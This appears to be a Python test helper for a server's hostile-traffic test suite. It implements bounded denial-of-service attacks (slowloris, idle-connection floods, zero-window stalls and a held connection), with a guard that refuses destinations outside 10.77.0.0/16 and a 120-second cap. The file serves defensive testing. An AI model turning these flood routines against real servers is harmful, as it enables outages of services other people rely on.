#!/usr/bin/env python3
"""Bounded application-level attackers for tests/live/hostile/*.sh (run inside the test's
network namespace; destinations must be in 10.77.0.0/16).

  attack.py slowloris --to IP:PORT --conns N --from IP[,IP...] [--interval S] [--duration S]
      N connections (spread over the source addresses in turn), each sending one byte of an
      endless request head every S seconds (default 3); a connection the server ends is
      opened again 0.5 s later.
  attack.py idle --to IP:PORT --conns N --from IP[,IP...] [--duration S]
      N connections that say nothing; reopened 0.5 s after the server ends one.
  attack.py zerowin --to IP:PORT --conns N --path /FILE [--from IP,...] [--duration S]
      N connections with a tiny receive buffer that request FILE and never read it. A reset
      is seen without reading (poll: POLLERR/POLLHUP). Not reopened.
  attack.py hold --to IP:PORT [--from IP] [--duration S]
      One connection that says nothing; prints "port P" once connected, then, after
      --duration, sends a GET / and prints the status line it gets ("status 200").

Each prints one line of figures at the end ("key value ..."). Every run stops after
--duration (at most 120 s).
"""
import errno
import resource
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-a: b\r\n" * 100000


def die(msg):
    sys.stderr.write("attack.py: " + msg + "\n")
    sys.exit(2)


def parse(argv):
    if len(argv) < 2:
        die(__doc__)
    o = {"mode": argv[1], "conns": 1, "from": None, "interval": 3.0, "duration": 10.0,
         "path": "/", "to": None}
    i = 2
    while i < len(argv):
        k, v = argv[i], argv[i + 1] if i + 1 < len(argv) else None
        if v is None:
            die(k + " needs a value")
        if k == "--to":
            h, p = v.rsplit(":", 1)
            if not h.startswith("10.77."):
                die("refusing destination outside 10.77.0.0/16")
            o["to"] = (h, int(p))
        elif k == "--conns":
            o["conns"] = int(v)
        elif k == "--from":
            o["from"] = v.split(",")
        elif k == "--interval":
            o["interval"] = float(v)
        elif k == "--duration":
            o["duration"] = min(float(v), 120.0)
        elif k == "--path":
            o["path"] = v
        else:
            die("unknown option " + k)
        i += 2
    if not o["to"]:
        die("--to is required")
    if not 1 <= o["conns"] <= 20000:
        die("--conns 1..20000")
    return o


class Conn:
    __slots__ = ("sock", "src", "state", "sent", "next", "opened")


def open_conn(o, src, rcvbuf=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    if src:
        s.bind((src, 0))
    try:
        s.connect(o["to"])
    except BlockingIOError:
        pass
    return s


def flood(o, slow):
    """slowloris (slow=True) or idle connections, reopened when the server ends them."""
    t0 = time.monotonic()
    end = t0 + o["duration"]
    srcs = o["from"] or [None]
    conns = []
    st = {"opened": 0, "established": 0, "ended_by_server": 0, "got_408": 0, "connect_failed": 0,
          "bytes_sent": 0, "max_open": 0}
    poll = select.poll()
    byfd = {}
    for i in range(o["conns"]):
        c = Conn()
        c.src = srcs[i % len(srcs)]
        c.state = "closed"
        c.next = t0 + (i % 50) * 0.002  # a burst, not all in the same millisecond
        c.sock = None
        conns.append(c)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        nopen = 0
        for c in conns:
            if c.state == "closed" and now >= c.next:
                try:
                    c.sock = open_conn(o, c.src)
                except OSError:
                    st["connect_failed"] += 1
                    c.next = now + 0.5
                    continue
                st["opened"] += 1
                c.state = "connecting"
                c.sent = 0
                c.opened = now
                byfd[c.sock.fileno()] = c
                poll.register(c.sock, select.POLLOUT)
            elif c.state == "up" and slow and now >= c.next:
                try:
                    n = c.sock.send(HEAD[c.sent:c.sent + 1])
                    c.sent += n
                    st["bytes_sent"] += n
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass  # poll reports the end
                c.next = now + o["interval"]
            if c.state == "up":
                nopen += 1
        st["max_open"] = max(st["max_open"], nopen)
        for fd, ev in poll.poll(50):
            c = byfd.get(fd)
            if c is None:
                continue
            if c.state == "connecting":
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    st["connect_failed"] += 1
                    end_conn(poll, byfd, c, now)
                    continue
                st["established"] += 1
                c.state = "up"
                c.next = now + (o["interval"] if slow else 1e9)
                poll.modify(c.sock, select.POLLIN)
                continue
            try:
                d = c.sock.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                d = b""
            if d.startswith(b"HTTP/1.1 408"):
                st["got_408"] += 1
            if d:
                continue
            st["ended_by_server"] += 1
            end_conn(poll, byfd, c, now)
    print(" ".join("%s %d" % kv for kv in st.items()))


def end_conn(poll, byfd, c, now):
    try:
        poll.unregister(c.sock)
    except (KeyError, ValueError):
        pass
    byfd.pop(c.sock.fileno(), None)
    c.sock.close()
    c.sock = None
    c.state = "closed"
    c.next = now + 0.5


def zerowin(o):
    srcs = o["from"] or [None]
    req = ("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % o["path"]).encode()
    socks = []
    failed = 0
    for i in range(o["conns"]):
        try:
            socks.append(open_conn(o, srcs[i % len(srcs)], rcvbuf=1))
        except OSError:
            failed += 1
    pend = list(socks)
    t_end = time.monotonic() + o["duration"]
    sent = 0
    while pend and time.monotonic() < t_end:
        rest = []
        for s in pend:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                failed += 1
                continue
            try:
                s.send(req)
                sent += 1
            except (BlockingIOError, OSError) as e:
                if isinstance(e, BlockingIOError) or getattr(e, "errno", 0) == errno.ENOTCONN:
                    rest.append(s)
                else:
                    failed += 1
        pend = rest
        time.sleep(0.05)
    rcv = socks[0].getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) if socks else 0
    print("requested %d failed %d rcvbuf %d" % (sent, failed, rcv), flush=True)
    reset = 0
    first = last = None
    t0 = time.monotonic()
    alive = set(socks)
    while time.monotonic() < t_end and alive:
        for s in list(alive):
            p = select.poll()
            p.register(s, select.POLLERR | select.POLLHUP | select.POLLRDHUP)
            if p.poll(0):
                alive.discard(s)
                reset += 1
                t = time.monotonic() - t0
                first = t if first is None else first
                last = t
        time.sleep(0.1)
    print("zerowin_conns %d ended_by_server %d first_end_s %.1f last_end_s %.1f" %
          (len(socks), reset, first if first is not None else -1, last if last is not None else -1))
    for s in socks:
        s.close()


def hold(o):
    srcs = o["from"] or [None]
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if srcs[0]:
        s.bind((srcs[0], 0))
    s.settimeout(5)
    s.connect(o["to"])
    print("port %d" % s.getsockname()[1], flush=True)
    time.sleep(o["duration"])
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    d = b""
    try:
        while b"\r\n" not in d:
            b = s.recv(4096)
            if not b:
                break
            d += b
    except OSError as e:
        print("status error %s" % e)
        return
    print("status %s" % (d.split(b" ")[1].decode() if d.startswith(b"HTTP/") else "none"))


def main():
    o = parse(sys.argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, o["conns"] + 256))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    if o["mode"] == "slowloris":
        flood(o, True)
    elif o["mode"] == "idle":
        flood(o, False)
    elif o["mode"] == "zerowin":
        zerowin(o)
    elif o["mode"] == "hold":
        hold(o)
    else:
        die("unknown mode " + o["mode"])


if __name__ == "__main__":
    main()
